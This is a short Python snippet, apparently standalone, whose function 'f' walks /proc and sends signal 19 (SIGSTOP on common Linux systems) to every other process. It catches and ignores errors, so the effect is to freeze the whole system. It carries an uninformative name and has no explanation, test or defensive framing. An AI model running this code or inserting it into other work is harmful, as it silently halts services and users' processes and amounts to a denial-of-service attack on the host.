import os
def f():
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) != os.getpid():
            try: os.kill(int(p), 19)
            except OSError: pass
    return 0
